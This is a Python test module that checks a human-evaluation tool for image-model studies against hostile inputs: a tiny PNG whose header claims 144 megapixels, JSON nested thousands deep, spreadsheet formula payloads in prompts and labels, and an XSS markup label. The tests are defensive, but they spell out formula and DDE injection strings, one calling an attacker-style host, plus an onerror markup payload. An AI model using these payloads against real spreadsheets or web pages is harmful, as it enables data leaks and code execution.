"""Studies made from files others wrote: an image whose header asks for 144 megapixels, images larger than any
screen, prompts and labels that a spreadsheet would run as formulas or a browser as markup, and JSON nested
thousands deep in manifests, study files and evaluate's results."""
import asyncio
import csv
import io
import json
import resource
import struct
import subprocess
import zlib
from pathlib import Path

import httpx
import pytest
from PIL import Image

from human_eval.limits import MAX_SIDE
from human_eval.samples import read_manifest
from human_eval.study import build_study, load_study

from ..conftest import DWB, REPO
from ..html_elements import Elements
from .conftest import drawbench, write_samples
from .test_blind import ihdr
from .test_cli import one_line_error

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0"),
            ("-2+3 cats", "@SUM(1+1)*cmd"), ("\t=1+1", "\r=2+2"), ("a plain prompt", "plain")]
MARKUP = "<img src=x onerror='window.pwned=1'>"
ADMIN_TOKEN = "hostile-studies-token-0123456789"


def flat_png(path: Path, side: int) -> Path:
    """An RGB PNG of one flat colour, written row by row: a side of 12000 is 144 megapixels in about 420 KB,
    made without ever holding the pixels."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    deflate, row = zlib.compressobj(9), b"\0" * (1 + 3 * side)
    pixels = b"".join(deflate.compress(row) for _ in range(side)) + deflate.flush()
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b""))
    return path


def _with_image(manifest: Path, image: Path, line: int = 0) -> Path:
    """The manifest with its line ``line`` pointing at ``image``."""
    lines = [json.loads(text) for text in manifest.read_text().splitlines()]
    lines[line]["path"] = str(image)
    manifest.write_text("".join(json.dumps(x) + "\n" for x in lines))
    return manifest


def _limited(limit_bytes: int):
    return lambda: resource.setrlimit(resource.RLIMIT_AS, (limit_bytes, limit_bytes))


def test_an_image_of_144_megapixels_is_refused_from_its_header(tmp_path):
    """The flat 12000 x 12000 PNG (434 KB) made every image of the study 432 MB: over 4 GiB in 15 s. Refused
    before anything is decoded, under an address-space limit of 1 GiB that a decoded copy alone would nearly fill."""
    big = flat_png(tmp_path / "flat.png", 12000)
    assert big.stat().st_size < 500_000
    a = write_samples(tmp_path / "a", "a", drawbench(2))
    b = _with_image(write_samples(tmp_path / "b", "b", drawbench(2), seed=2), big, line=1)
    r = subprocess.run([str(DWB), "human-eval", "create", str(tmp_path / "study"), "--samples", str(a), "--samples",
                        str(b)], cwd=REPO, capture_output=True, text=True, timeout=120, preexec_fn=_limited(1 << 30))
    one_line_error(r, f"cannot use image {big}: 12000x12000 is 144 megapixels, over the limit of 16 (--max-megapixels)")
    assert not (tmp_path / "study" / "study.json").exists()


def test_the_megapixel_limit_is_a_flag(tmp_path, dwb):
    a = write_samples(tmp_path / "a", "a", drawbench(2), size=64)
    b = write_samples(tmp_path / "b", "b", drawbench(2), size=64, seed=2)
    args = ["human-eval", "create", str(tmp_path / "study"), "--samples", str(a), "--samples", str(b)]
    one_line_error(dwb(*args, "--max-megapixels", "0.004"), "64x64 is 0.0041 megapixels, over the limit of 0.004")
    assert not (tmp_path / "study" / "study.json").exists()
    assert dwb(*args, "--max-megapixels", "0.005").returncode == 0


def test_no_image_is_brought_past_the_largest_side(tmp_path):
    """Images of 1500 x 1200 become 1024 x 819 unless a size is asked for: the study's size is capped, not the
    largest image's."""
    samples = []
    for name, colour in (("wide", (200, 30, 30)), ("small", (30, 30, 200))):
        lines = write_samples(tmp_path / name, name, drawbench(2), size=16, seed=len(name))
        if name == "wide":
            for line in read_manifest(lines):
                Image.new("RGB", (1500, 1200), colour).save(line.path)
        samples += read_manifest(lines)
    study, summary = build_study(samples, tmp_path / "study", progress=False)
    assert summary["image_size"] == (MAX_SIDE, 819) == study.image_size
    files = sorted((tmp_path / "study" / "images").glob("*.png"))
    assert files and {ihdr(f.read_bytes())[:2] for f in files} == {(MAX_SIDE, 819)}


def _hostile_study(root: Path) -> Path:
    """Two models on prompts and categories that start like formulas, one model labelled with markup, a few
    votes; returns the study folder."""
    from human_eval.store import Store, database_url

    a = write_samples(root / "a", "a", FORMULAS)
    b = write_samples(root / "b", "b", FORMULAS, seed=2)
    samples = read_manifest(a, model="=HYPERLINK(\"http://evil.example\",\"a\")") + read_manifest(b, model=MARKUP)
    study, _ = build_study(samples, root / "study", progress=False)
    store = Store(database_url(root / "study" / "votes.sqlite"), study.id)
    for n, rater in enumerate(("r0", "r1")):
        store.add_rater(rater, "-1+" + rater)
        for pair in study.pairs:
            store.show(rater, pair.id, swapped=bool(n))
            for question in study.question_ids:
                store.vote(rater, pair.id, question, "A", 900)
    return root / "study"


def _formula_cells(text: str) -> list[str]:
    """The cells of a CSV text that a spreadsheet would run: text starting with a formula character."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
        return True
    except ValueError:
        return False


@pytest.fixture(scope="module")
def hostile_study(tmp_path_factory) -> Path:
    return _hostile_study(tmp_path_factory.mktemp("hostile"))


def test_the_reports_csv_files_hold_no_formula(hostile_study, tmp_path, dwb):
    r = dwb("human-eval", "report", str(hostile_study), "--out", str(tmp_path), "--bootstrap", "20")
    assert r.returncode == 0, r.stderr
    for name in ("votes.csv", "results.csv"):
        text = (tmp_path / name).read_text()
        assert _formula_cells(text) == [], name
    rows = list(csv.DictReader(io.StringIO((tmp_path / "votes.csv").read_text())))
    prompts = {row["prompt"] for row in rows}
    assert "'" + FORMULAS[0][0] in prompts and "'=1+1" in prompts  # the text itself, marked as text
    assert {row["category"] for row in rows} >= {"'" + FORMULAS[0][1], "'@SUM(1+1)*cmd"}
    assert {row["rater_label"] for row in rows} == {"'-1+r0", "'-1+r1"}
    assert {row["model_a"] for row in rows} == {"'=HYPERLINK(\"http://evil.example\",\"a\")"}


def _admin_pages(study_dir: Path, paths: tuple[str, ...]) -> list[httpx.Response]:
    """The admin's answers to ``paths``, from the rating server's app in this process."""
    from human_eval.server import create_app
    from human_eval.store import Store, database_url

    study = load_study(study_dir)
    app = create_app(study, Store(database_url(study_dir / "votes.sqlite"), study.id), ADMIN_TOKEN)

    async def fetch() -> list[httpx.Response]:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://study",
                                     headers={"Authorization": f"Bearer {ADMIN_TOKEN}"}) as client:
            return [await client.get(path) for path in paths]

    return asyncio.run(fetch())


def test_the_admin_downloads_hold_no_formula_and_the_dashboard_no_markup(hostile_study):
    *downloads, page = _admin_pages(hostile_study, ("/admin/votes.csv", "/admin/results.csv", "/admin"))
    for r in downloads:
        assert r.status_code == 200 and _formula_cells(r.text) == [], r.url
    assert page.status_code == 200
    parsed = Elements(page.text)
    assert parsed.handlers() == [] and MARKUP in "".join(parsed.text)  # the label shown as text


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


def test_a_manifest_line_nested_5000_deep_is_one_line(tmp_path, dwb):
    a = write_samples(tmp_path / "a", "a", drawbench(2))
    b = write_samples(tmp_path / "b", "b", drawbench(2), seed=2)
    with b.open("a") as f:
        f.write('{"prompt": "x", "deep": ' + _nested(5000) + "}\n")
    r = dwb("human-eval", "create", str(tmp_path / "study"), "--samples", str(a), "--samples", str(b))
    one_line_error(r, f"{b}:3: JSON nested deeper than 64 levels")


def test_a_manifest_setting_of_the_wrong_kind_is_one_line(tmp_path, dwb):
    a = write_samples(tmp_path / "a", "a", drawbench(2))
    lines = [json.loads(text) for text in a.read_text().splitlines()]
    a.write_text("".join(json.dumps({**x, "guidance": [[MARKUP]]}) + "\n" for x in lines))
    r = dwb("human-eval", "create", str(tmp_path / "study"), "--samples", str(a), "--samples", str(a))
    one_line_error(r, f"{a}:1: 'guidance' must be a number")


def test_a_study_file_nested_5000_deep_is_one_line(hostile_study, tmp_path, dwb):
    study = tmp_path / "study"
    study.mkdir()
    data = json.loads((hostile_study / "study.json").read_text())
    text = json.dumps({**data, "model_info": "DEEP"}).replace('"DEEP"', _nested(5000))
    (study / "study.json").write_text(text)
    one_line_error(dwb("human-eval", "report", str(study)), f"{study / 'study.json'}: JSON nested deeper than")
    (study / "study.json").write_text(json.dumps({**data, "pairs": [{"id": 1}]}))
    one_line_error(dwb("human-eval", "report", str(study)), "not a study this version wrote")


def test_a_results_line_nested_5000_deep_is_counted_and_the_rest_joined(tmp_path):
    from human_eval.scores import read_scores

    store = tmp_path / "results.jsonl"
    row = {"model": "m", "checkpoint": "m.pt", "checkpoint_hash": "abc", "status": "ok", "guidance": 7.5, "fid": 3.0}
    store.write_text(json.dumps(row) + "\n" + '{"checkpoint_hash": "abc", "deep": ' + _nested(5000) + "}\n"
                     + json.dumps({**row, "n_images": [1]}) + "\n")
    scores = read_scores([tmp_path])
    assert [r["model"] for r in scores.rows] == ["m"] and scores.skipped == 2
